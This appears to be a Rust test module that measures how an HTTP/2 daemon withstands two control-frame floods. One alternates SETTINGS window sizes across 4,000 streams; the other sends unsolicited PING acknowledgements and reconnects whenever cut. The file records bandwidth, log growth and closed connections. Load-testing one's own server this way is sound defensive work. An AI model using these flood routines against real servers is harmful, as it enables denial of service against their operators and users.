//! Attacks with control frames of HTTP/2: windows that change (row 8), answers to PINGs that nobody sent (row 9).

use std::{io, net::SocketAddr, sync::Arc, time::Duration};

use tokio::time::{interval, sleep};

use super::{
    scene::{Note, Scene, Task, mib},
    swarm::Counts,
};
use crate::frames::{ACK, Connection, GET, PING};

/// Two windows in turn, on connections with 1,000 open streams, 1.6 MB a second in all.
pub fn settings(scene: &Scene) -> io::Result<()> {
    let address = scene.server.address;
    let counts = Arc::new(Counts::default());
    scene.window("SETTINGS, 4 x 1,000 streams", async {
        let _tasks: Vec<_> =
            (0..4).map(|number| Task::spawn(change_windows(address, number, counts.clone()))).collect();
        sleep(Duration::from_secs(10)).await;
        let sent = mib(counts.pieces() * 15) / 10.0;
        Ok(vec![Note(sent, "MiB a second"), Note(whole(counts.closed()), "of 4 connections closed")])
    })
}

async fn change_windows(address: SocketAddr, number: u32, counts: Arc<Counts>) -> io::Result<()> {
    let mut connection = Connection::open(address).await?;
    for stream in 0..1_000 {
        connection.request(GET, &format!("/subscribe/w{number}x{stream}/device/d"), &[], true);
    }
    let mut tick = interval(TICK);
    loop {
        tokio::select! {
            _ = tick.tick() => {
                // The daemon reads as slowly as it likes.
                let pairs = if connection.unsent() < MOST { PAIRS } else { 0 };
                for _ in 0..pairs {
                    connection.set_window(1_000);
                    connection.set_window(100_000);
                }
                counts.piece((pairs * 2).into());
            }
            turn = connection.turn(|_| ()) => {
                if turn.is_err() {
                    counts.close();
                    return turn;
                }
            }
        }
    }
}

/// 400 KB a second: 1,333 times two frames of 15 bytes in 0.1 s.
const TICK: Duration = Duration::from_millis(5);
const PAIRS: u32 = 67;

/// What may wait to be written.
const MOST: usize = 64 * 1_024;

/// Nothing but acknowledgements.
pub fn pings(scene: &Scene) -> io::Result<()> {
    let address = scene.server.address;
    let counts = Arc::new(Counts::default());
    scene.window("6 s of unasked PING ACKs", async {
        let before = scene.server.logged()?;
        let task = Task::spawn(flood(address, counts.clone()));
        sleep(Duration::from_secs(6)).await;
        drop(task);
        let logged = mib(scene.server.logged()? - before);
        let sent = mib(counts.pieces() * 17);
        Ok(vec![Note(logged, "MiB of log"), Note(sent, "MiB sent"), Note(whole(counts.closed()), "connections closed")])
    })
}

/// Comes again when it is cut.
async fn flood(address: SocketAddr, counts: Arc<Counts>) -> io::Result<()> {
    loop {
        let mut connection = Connection::open(address).await?;
        loop {
            if connection.unsent() < 17 {
                for _ in 0..1_000 {
                    connection.frame(PING, ACK, 0, &[7; 8]);
                }
                counts.piece(1_000);
            }
            if connection.turn(|_| ()).await.is_err() {
                counts.close();
                break;
            }
        }
    }
}

fn whole(number: u64) -> f64 {
    f64::from(u32::try_from(number).unwrap_or(u32::MAX))
}
